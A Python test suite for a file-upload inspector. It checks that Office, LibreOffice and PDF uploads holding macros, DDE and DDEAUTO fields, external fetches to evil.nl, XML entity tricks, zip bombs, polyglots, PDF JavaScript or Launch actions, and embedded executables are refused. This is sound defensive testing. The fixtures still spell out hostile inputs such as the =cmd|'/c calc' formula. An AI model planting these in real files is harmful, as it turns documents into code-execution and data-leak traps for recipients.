"""Office files and PDFs: nothing that runs, fetches or hides (security.md B08, B23)."""

import io
from collections.abc import Callable

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from comms.files import TYPES
from tests.comms.uploads import HONEST, HTML, MAIN, docx, inspected, odt, packed, pdf, refusal, relation, xlsx


# --- office ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        docx({"word/vbaProject.bin": b"x"}),
        docx({"word/activeX/activeX1.xml": "<a/>"}),
        docx(types="application/vnd.ms-word.document.macroEnabled.main+xml"),
        docx(types=f'{MAIN}"/><Default Extension="b" ContentType="application/vnd.ms-office.vbaProject'),
    ],
)
def test_macros_are_refused_whatever_the_name(content):
    assert "macro" in refusal(content, "a.docx")


@pytest.mark.parametrize(
    "content",
    [
        docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.nl/x.dotm")}),
        docx({"word/_rels/document.xml.rels": relation("image", "https://evil.nl/x.png")}),
        docx({"word/_rels/document.xml.rels": relation("hyperlink", "file://evil.nl/deel/x")}),
        docx({"word/_rels/document.xml.rels": relation("hyperlink", "\\\\evil.nl\\x")}),
        docx({"word/_rels/document.xml.rels": relation("oleObject", "x.bin", external=False)}),
        docx({"word/_rels/document.xml.rels": relation("aFChunk", "x.mht", external=False)}),
        docx(
            {
                "word/_rels/document.xml.rels": relation("image", "https://evil.nl/x.png").replace(
                    "External", "&#69;xternal"
                )
            }
        ),
        docx(body="<w:p><w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\x</w:instrText></w:p>"),
        docx(body="<w:p><w:instrText>&#68;DEAUTO c:\\x</w:instrText></w:p>"),
        docx(body='<w:fldSimple w:instr="INCLUDEPICTURE https://evil.nl/x"/>'),
    ],
)
def test_what_fetches_from_elsewhere_is_refused(content):
    assert "elders" in refusal(content, "a.docx")


def test_formulas_that_fetch_are_refused_and_others_stay():
    assert "elders" in refusal(xlsx('=WEBSERVICE("https://evil.nl")'), "a.xlsx")
    assert "elders" in refusal(xlsx("=cmd|'/c calc'!A0"), "a.xlsx")
    assert inspected(xlsx("=SUM(B1:B2)"), "a.xlsx")


@pytest.mark.parametrize(
    "part", ["word/embeddings/oleObject1.bin", "word/embeddings/a.xlsx", "word/x.exe", "word/x.bin", "x.html"]
)
def test_files_inside_are_refused(part):
    assert "ander bestand" in refusal(docx({part: b"x"}), "a.docx")


def test_the_settings_of_a_printer_may_stay():
    assert inspected(docx({"word/printerSettings/printerSettings1.bin": b"x"}), "a.docx")


@pytest.mark.parametrize("name", ["../x.xml", "/x.xml", "word\\x.xml", "c:x.xml", "WORD/document.xml"])
def test_strange_parts_are_refused(name):
    assert "Office" in refusal(docx({name: "<a/>"}), "a.docx")


@pytest.mark.parametrize(
    "xml",
    ['<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', '<!DOCTYPE a SYSTEM "https://evil.nl/x"><a/>', "<a>", "", "\xff"],
)
def test_tricks_in_xml_are_refused(xml):
    assert refusal(docx({"word/_rels/document.xml.rels": xml}), "a.docx")


def test_a_bomb_is_refused_before_it_is_unpacked():
    assert "te groot" in refusal(docx({"word/media/a.txt": b"\0" * 20_000_000}), "a.docx")
    assert "te groot" in refusal(docx({f"word/{number}.txt": b"" for number in range(5_001)}), "a.docx")


def test_a_package_that_lies_about_its_size_is_refused():
    content = bytearray(docx({"word/media/a.txt": b"x" * 5_000}))
    place = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 1)
    while b"media/a.txt" not in content[place : place + 70]:
        place = content.index(b"PK\x01\x02", place + 1)
    content[place + 24 : place + 28] = (10).to_bytes(4, "little")
    assert refusal(bytes(content), "a.docx")


@pytest.mark.parametrize(
    "content", [HTML + docx(), docx() + HTML, docx() + docx(), HONEST["pdf"] + docx(), docx() + b"\x00"]
)
def test_two_files_in_one_are_refused(content):
    for name in ("a.docx", "a.pdf"):
        assert refusal(content, name)


@pytest.mark.parametrize(
    ("body", "sentence"),
    [
        ('<script:event-listener xlink:href="x"/>', "macro"),
        ('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>', "macro"),
        ('<draw:object-ole xlink:href="./Object"/>', "macro"),
        ('<draw:image xlink:href="https://evil.nl/x.png"/>', "elders"),
        ("<draw:image xlink:href = '&#104;ttps://evil.nl/x.png'/>", "elders"),
        ('<draw:image xlink:href="../../x.png"/>', "elders"),
        ('<text:a xlink:href="file:///etc/x">x</text:a>', "elders"),
        ("<office:dde-source/>", "elders"),
        ('<text:section-source xlink:href="x.odt"/>', "elders"),
    ],
)
def test_what_runs_or_fetches_in_libreoffice_is_refused(body, sentence):
    assert sentence in refusal(odt(body=body), "a.odt")


@pytest.mark.parametrize(
    ("extra", "sentence"),
    [
        ({"Basic/Standard/Module1.xml": "<a/>"}, "macro"),
        ({"Scripts/python/x.py": "x"}, "macro"),
        ({"Object 1": b"x"}, "ander bestand"),
        ({"META-INF/manifest.xml": "<a><encryption-data/></a>"}, "versleuteld"),
        ({"mimetype": TYPES["ods"]}, "Office"),
    ],
)
def test_parts_of_libreoffice_that_are_refused(extra, sentence):
    assert sentence in refusal(odt(extra), "a.odt")


# --- PDF ---------------------------------------------------------------------------------------------
def an_action(kind: str) -> Callable[[PdfWriter], object]:
    action = DictionaryObject(
        {NameObject("/S"): NameObject(kind), NameObject("/URI"): TextStringObject("https://evil.nl")}
    )

    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return change


@pytest.mark.parametrize(
    "kind", ["/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/URI", "/Rendition"]
)
def test_a_pdf_that_does_something_is_refused(kind):
    assert "programma's" in refusal(pdf(an_action(kind)), "a.pdf")


@pytest.mark.parametrize(
    "change",
    [
        lambda writer: writer._root_object.__setitem__(NameObject("/JS"), TextStringObject("app.alert(1)")),
        lambda writer: writer.add_attachment("x.exe", b"MZ"),
        lambda writer: writer._root_object.__setitem__(NameObject("/XFA"), TextStringObject("x")),
    ],
)
def test_a_pdf_with_scripts_forms_or_files_is_refused(change):
    assert "programma's" in refusal(pdf(change), "a.pdf")


def test_names_in_another_spelling_are_seen():
    content = pdf(an_action("/JavaScript")).replace(b"/JavaScript", b"/J#61vaScript")
    assert b"/JavaScript" not in content
    assert refusal(content, "a.pdf")


def test_what_is_hidden_in_a_packed_stream_is_seen():
    writer, file = PdfWriter(), io.BytesIO()
    writer.add_blank_page(9, 9)
    an_action("/JavaScript")(writer)
    writer.compress_identical_objects()
    writer.write(file)
    packed_pdf = io.BytesIO()
    again = PdfWriter(clone_from=PdfReader(io.BytesIO(file.getvalue())))
    again.use_object_streams = True
    again.write(packed_pdf)
    assert refusal(packed_pdf.getvalue(), "a.pdf")


def test_an_encrypted_pdf_is_refused():
    assert "versleuteld" in refusal(pdf(lambda writer: writer.encrypt("geheim")), "a.pdf")
    assert "versleuteld" in refusal(pdf(lambda writer: writer.encrypt("", "geheim")), "a.pdf")


@pytest.mark.parametrize("tail", [HTML, packed({"a": "b"}), b"x" * 100])
def test_something_before_or_behind_a_pdf_is_refused(tail):
    assert refusal(HONEST["pdf"] + tail, "a.pdf")
    assert refusal(tail + HONEST["pdf"], "a.pdf")


def test_a_pdf_whose_index_points_elsewhere_is_refused():
    """One program leaves out such an object, another looks for it in the whole file: they see two documents."""
    content = HONEST["pdf"]
    at = content.rindex(b" 00000 n") - 10
    assert "goede PDF" in refusal(content[:at] + b"0000000003" + content[at + 10 :], "a.pdf")


def test_a_page_that_pretends_to_be_a_pdf_is_refused():
    assert refusal(HONEST["pdf"].replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<html>\n", 1), "a.pdf")


def test_a_pdf_of_noise_ends():
    for noise in (b"1 0 obj<<", b"[", b"(", b"<<", b"/A ", b"xref\n0 1\n", b"stream\n", b"#41"):
        content = b"%PDF-1.7\n" + noise * 50_000 + b"\nstartxref\n9\n%%EOF"
        assert refusal(content, "a.pdf")
